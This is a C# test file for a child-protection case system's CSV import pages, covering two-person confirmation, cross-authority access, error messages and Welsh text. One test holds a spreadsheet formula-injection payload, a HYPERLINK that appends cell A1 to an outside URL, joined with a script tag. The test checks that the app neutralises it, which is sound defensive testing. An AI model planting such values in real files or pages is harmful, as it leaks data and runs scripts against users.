using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using ChildProtection.Workflow.Cases.Identity;
using ChildProtection.Workflow.Cases.Import;
using ChildProtection.Workflow.Server.Tests.Messaging;
using ChildProtection.Workflow.Server.Tests.Serving;
using ChildProtection.Workflow.Storage.Schema;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace ChildProtection.Workflow.Server.Tests.Importing;

/// <summary>Cases of an earlier system brought in from the browser: uploaded and rehearsed by one person, confirmed by another, carried out while nobody waits.</summary>
public sealed partial class ImportPagesTests
{
    private const string List = "/import";
    private const string Reason = "Compared with the list of the register.";

    private TestServer server = null!;

    [OneTimeSetUp]
    public async Task Start() => server = await TestServer.Start(demonstration: true);

    [OneTimeTearDown]
    public async Task Stop() => await server.DisposeAsync();

    [Test]
    public async Task Templates_are_given_out_with_their_header()
    {
        using var administrator = await As("hedd");
        var page = await administrator.Page(List);

        foreach (var subject in ImportSubject.All)
        {
            Assert.That(page, Does.Contain($"href=\"/import/templates/{subject.File}\""));
            Assert.That(await administrator.Page($"/import/templates/{subject.File}"), Does.StartWith(subject.Columns[0].Name + ","));
        }
        Assert.That((await administrator.Get("/import/templates/passwords.csv")).StatusCode, Is.EqualTo(HttpStatusCode.NotFound));
    }

    [Test]
    public async Task What_one_person_uploads_and_another_confirms_comes_in_and_the_report_leads_to_it()
    {
        using var senior = await As("gwenllian");
        using var head = await As("iolo");
        using var manager = await As("rhodri");
        var run = await Uploaded(senior, EarlierSystem.One("Nansi", "Quillrowan", "11"));

        var rehearsed = await head.Page(run);
        using var unsaid = await head.Send(run, $"{run}?handler=Confirm", ("reason", " "));
        using var confirmed = await head.Send(run, $"{run}?handler=Confirm", ("reason", Reason));
        await Ended(run);
        var after = await senior.Page(run);
        var (caseId, parts) = (new CaseId(), Array.Empty<StoredImportPart>());
        await server.Database(async database =>
        {
            var child = await database.Children.SingleAsync(one => one.FamilyName == "Quillrowan");
            caseId = (await database.Cases.SingleAsync(one => one.ChildId == child.ChildId)).CaseId;
            parts = await database.ImportParts.Where(part => part.ImportId == Id(run)).ToArrayAsync();
        });

        Assert.Multiple(async () =>
        {
            Assert.That(rehearsed, Does.Contain("Waits for a second person").And.Contain("Cases that can be brought in: 1. Rows: 3.").And.Contain("Child protection plan: 1").And.Contain("Anwen Candlemere: cases 1"));
            Assert.That(await unsaid.Content.ReadAsStringAsync(), Does.Contain("Write why they may come in"));
            Assert.That(confirmed.Headers.Location?.ToString(), Is.EqualTo(run));
            Assert.That(after, Does.Contain("Cases brought in: 1. Rows not brought in: 0").And.Contain("Confirmed by Iolo Tidewater").And.Contain(Reason).And.Contain("The files are deleted."));
            Assert.That(parts.Select(part => part.Number), Has.None.LessThan(ImportSubject.All.Count), "the files are gone, the rehearsal and the report stay");
            Assert.That(await manager.Page($"/cases/{caseId}"), Does.Contain("Nansi Quillrowan"));
        });
    }

    [Test]
    public async Task Whoever_uploaded_does_not_confirm_and_finds_it_waiting()
    {
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, EarlierSystem.One("Madlen", "Thornquill", "12"));

        var page = await senior.Page(run);
        using var sent = await senior.Send(run, $"{run}?handler=Confirm", ("reason", Reason));

        Assert.That(page, Does.Contain("You uploaded these files. Somebody else has to confirm").And.Not.Contain("Confirm and bring in"));
        Assert.That(await sent.Content.ReadAsStringAsync(), Does.Contain("There is a problem").And.Contain("You uploaded these files. Somebody else has to confirm"));
        await server.Database(async database => Assert.That((await database.ImportRuns.SingleAsync(row => row.ImportId == Id(run))).State, Is.EqualTo(ImportRunState.Waiting)));
        await Withdrawn(senior, run);
    }

    [Test]
    public async Task An_administrator_confirms_and_reads_references_and_no_childs_name()
    {
        await ProtectedFamily.On(server, "Gorsebrook", "Eleri");
        var born = await BirthDay("Gorsebrook");
        using var senior = await As("gwenllian");
        using var administrator = await As("hedd");
        var (children, cases, allocations) = (EarlierSystem.Children("Eleri", "Gorsebrook", "13"), EarlierSystem.Cases("13"), EarlierSystem.Allocations("13"));
        var run = await Uploaded(senior, [(children.Name, Replaced(children.Content, "2018-03-14", born)), cases, allocations]);

        var (theirs, own) = (await administrator.Page(run), await senior.Page(run));
        var csv = await administrator.Page($"{run}/report.csv");

        Assert.That(own, Does.Contain("Children like ones on file").And.Contain("Eleri Gorsebrook"));
        Assert.That(theirs, Does.Contain("CPW8213").And.Contain("children.csv, line 2").And.Contain("same_as").And.Not.Contain("Gorsebrook").And.Not.Contain("Children like ones on file"));
        Assert.That(csv, Does.Contain("CPW8213").And.Not.Contain("Gorsebrook"));
        Assert.That(theirs, Does.Not.Contain("Confirm and bring in").And.Contain("No case can be brought in"), "its one case waits for a decision");
        await Withdrawn(administrator, run);
        await server.Database(async database => Assert.That(
            (await database.Searches.Where(look => look.Asked.StartsWith(EarlierSystem.Name)).ToListAsync()).Select(look => look.Asked), Has.Some.Contains("children.csv:2"), "being shown who it may be is on record"));
    }

    [Test]
    public async Task Each_thing_that_is_wrong_is_said_with_its_file_line_column_code_and_what_to_do()
    {
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, [EarlierSystem.Children("Ifor", "Marshbell", "14"), EarlierSystem.Cases("14", "West team"), EarlierSystem.Allocations("14", "no.such.person")]);

        var page = Plain(await senior.Page(run));

        Assert.That(page, Does.Contain("cases.csv, line 2 team What: Not brought in CPW8211 There is no team of that name here. What to do: Teams are North team, South team."));
        Assert.That(page, Does.Contain("allocations.csv, line 2 sign_in_name What: Not brought in CPW8212"));
        Assert.That(page, Does.Contain("No case can be brought in. Put right what was found, and upload again."));
        await Withdrawn(senior, run);
    }

    [TestCase("\"an open quotation mark", "CPW8203")]
    [TestCase("a;b;c\n1;2;3", "CPW8204")]
    [TestCase("", "CPW8204")]
    public async Task A_file_that_is_no_table_is_told_by_its_code_and_brings_nothing_in(string content, string code)
    {
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, [("children.csv", Encoding.UTF8.GetBytes(content)), EarlierSystem.Cases("15")]);

        Assert.That(Plain(await senior.Page(run)), Does.Contain($"children.csv What: Not brought in {code}").And.Contain("No case can be brought in"));
        await Withdrawn(senior, run);
    }

    [Test]
    public async Task Letters_of_another_encoding_are_refused_and_not_guessed()
    {
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, [("children.csv", Encoding.Latin1.GetBytes("child_reference,given_name\nC-1,Siân\n")), EarlierSystem.Cases("16")]);

        Assert.That(Plain(await senior.Page(run)), Does.Contain("CPW8203").And.Contain("Save it as 'CSV UTF-8'."));
        await Withdrawn(senior, run);
    }

    [Test]
    public async Task What_is_missing_or_of_another_name_is_said_on_the_form_and_nothing_is_kept()
    {
        using var senior = await As("gwenllian");
        var before = await Runs();

        using var nameless = await senior.SendFiles(List, EarlierSystem.One("Aled", "Fernpool"), ("system", " "));
        using var none = await senior.SendFiles(List, [], ("system", EarlierSystem.Name));
        using var half = await senior.SendFiles(List, [EarlierSystem.Cases()], ("system", EarlierSystem.Name));
        using var other = await senior.SendFiles(List, [("letters.docx", [1, 2, 3])], ("system", EarlierSystem.Name));
        using var twice = await senior.SendFiles(List, [EarlierSystem.Cases(), EarlierSystem.Cases()], ("system", EarlierSystem.Name));

        Assert.That(await nameless.Content.ReadAsStringAsync(), Does.Contain("Enter what the earlier system is called"));
        Assert.That(await none.Content.ReadAsStringAsync(), Does.Contain("children.csv and cases.csv are needed").And.Contain($"value=\"{EarlierSystem.Name}\""));
        Assert.That(await half.Content.ReadAsStringAsync(), Does.Contain("children.csv and cases.csv are needed"));
        Assert.That(await other.Content.ReadAsStringAsync(), Does.Contain("Choose files of these names, each once: children.csv"));
        Assert.That(await twice.Content.ReadAsStringAsync(), Does.Contain("Choose files of these names, each once"));
        Assert.That(await Runs(), Is.EqualTo(before));
    }

    [Test]
    public async Task Files_that_are_too_large_are_not_read_and_the_form_says_so()
    {
        using var senior = await As("gwenllian");

        using var sent = await senior.SendFiles(List, [("children.csv", new byte[30 * 1024 * 1024]), EarlierSystem.Cases()], ("system", EarlierSystem.Name));

        Assert.That((sent.StatusCode, sent.Headers.Location?.ToString()), Is.EqualTo((HttpStatusCode.SeeOther, "/import?fault=too_large")));
        Assert.That(await senior.Page(sent.Headers.Location!.ToString()), Does.Contain("There is a problem").And.Contain("Together the files have more than 20 megabytes. Upload them in parts"));
    }

    [Test]
    public async Task A_cell_that_a_spreadsheet_would_take_for_a_formula_reaches_neither_the_table_nor_the_page_as_one()
    {
        const string Formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")<script>alert(1)</script>";
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, [EarlierSystem.Children("Nia", "Owlbeck", "17"), EarlierSystem.Cases("17", Formula), EarlierSystem.Allocations("17", Formula)], Formula[..60]);

        var csv = await senior.Page($"{run}/report.csv");
        var page = await senior.Page(run);

        Assert.That(Cells().Matches(csv).Select(cell => cell.Groups[1].Value), Has.None.Match("^[=+@\\t-]"));
        Assert.That(csv, Does.Not.Contain("=HYPERLINK"));
        Assert.That(page, Does.Not.Contain("<script>alert").And.Contain("=HYPERLINK(&quot;https"), "what the earlier system is called stands there as text");
        await Withdrawn(senior, run);
    }

    [Test]
    public async Task A_run_is_not_there_for_whoever_may_not_bring_cases_in_nor_for_another_authority()
    {
        using var senior = await As("gwenllian");
        var run = await Uploaded(senior, EarlierSystem.One("Cian", "Larchford", "18"));
        await server.Database(async database =>
        {
            database.Authorities.Add(new StoredAuthority { AuthorityId = new AuthorityId(2), Name = "Elsewhere (invented)", Nation = "wales" });
            database.Users.Add(new StoredUser
            {
                AuthorityId = new AuthorityId(2), UserId = new UserId(Guid.NewGuid()), SignInName = "elsewhere", DisplayName = "Somebody Elsewhere", PasswordHash = "",
                Roles = """["head_of_service"]""", SecurityStamp = "s",
            });
            await database.SaveChangesAsync();
        });
        using var elsewhere = await As("elsewhere");
        using var manager = await As("rhodri");

        using var theirs = await elsewhere.Get(run);
        using var csv = await elsewhere.Get($"{run}/report.csv");
        using var confirmed = await elsewhere.Send(List, $"{run}?handler=Confirm", ("reason", Reason));
        using var withdrawn = await elsewhere.Send(List, $"{run}?handler=Withdraw");
        using var managers = await manager.Get(run);
        var list = await elsewhere.Page(List);

        Assert.That(new[] { theirs, csv, confirmed, withdrawn }.Select(answer => answer.StatusCode), Has.All.EqualTo(HttpStatusCode.NotFound));
        Assert.That((managers.StatusCode, list.Contains(run, StringComparison.Ordinal)), Is.EqualTo((HttpStatusCode.Forbidden, false)));
        await server.Database(async database => Assert.That((await database.ImportRuns.SingleAsync(row => row.ImportId == Id(run))).State, Is.EqualTo(ImportRunState.Waiting)));
        await Withdrawn(senior, run);
    }

    [Test]
    public async Task An_administrator_uploads_nothing_and_is_told_who_does()
    {
        using var administrator = await As("hedd");
        using var senior = await As("gwenllian");

        var page = await administrator.Page(List);

        Assert.That(page, Does.Contain("Whoever uploads files answers for the cases").And.Not.Contain("type=\"file\""));
    }

    [Test]
    public async Task A_run_reads_in_welsh()
    {
        using var senior = await As("gwenllian");
        using var chosen = await senior.Get("/language/cy?back=/");
        var run = await Uploaded(senior, EarlierSystem.One("Gwion", "Hollyrush", "19"));

        Assert.That(await senior.Page(run), Does.Contain("Yn aros am ail berson").And.Contain("Cynllun amddiffyn plant: 1").And.Contain("Chi a uwchlwythodd y ffeiliau hyn"));
        await Withdrawn(senior, run, "Tynnwyd yn ôl. Mae’r ffeiliau wedi’u dileu.");
    }

    private Task<Reader> As(string signIn) => server.Reader().As(server, signIn);

    private static async Task<string> Uploaded(Reader by, IEnumerable<(string, byte[])> files, string system = EarlierSystem.Name)
    {
        using var sent = await by.SendFiles(List, files, ("system", system));
        Assert.That(sent.StatusCode, Is.EqualTo(HttpStatusCode.Redirect), await sent.Content.ReadAsStringAsync());
        return sent.Headers.Location!.ToString();
    }

    private static async Task Withdrawn(Reader by, string run, string said = "Taken back. The files are deleted.")
    {
        using var sent = await by.Send(run, $"{run}?handler=Withdraw");
        Assert.That(sent.StatusCode, Is.EqualTo(HttpStatusCode.Redirect));
        Assert.That(WebUtility.HtmlDecode(await by.Page(run)), Does.Contain(said));
    }

    /// <summary>This node's own worker may have taken it already.</summary>
    private async Task Ended(string run)
    {
        await server.Services.GetRequiredService<CarryingImports>().Run(default);
        await Until.Holds(
            async () => (await server.Services.GetRequiredService<IImportRuns>().Find(new AuthorityId(1), Id(run), default))!.State == ImportRunState.Ended, "the run ends");
    }

    private async Task<int> Runs()
    {
        var runs = 0;
        await server.Database(async database => runs = await database.ImportRuns.CountAsync());
        return runs;
    }

    private async Task<string> BirthDay(string familyName)
    {
        var born = "";
        await server.Database(async database => born = NodaTime.Text.LocalDatePattern.Iso.Format((await database.Children.SingleAsync(one => one.FamilyName == familyName)).BornOn!.Value));
        return born;
    }

    private static ImportRunId Id(string run) => ImportRunId.Parse(run[(List.Length + 1)..], null);

    private static byte[] Replaced(byte[] content, string from, string to) => Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(content).Replace(from, to, StringComparison.Ordinal));

    /// <summary>What a reader hears of a page, in one line.</summary>
    private static string Plain(string html) => Spaces().Replace(WebUtility.HtmlDecode(Tags().Replace(html, " ")), " ");

    [GeneratedRegex("<[^>]*>")]
    private static partial Regex Tags();

    [GeneratedRegex("\\s+")]
    private static partial Regex Spaces();

    [GeneratedRegex("(?:^|,|\n)\"?([^\",\r\n]+)")]
    private static partial Regex Cells();
}
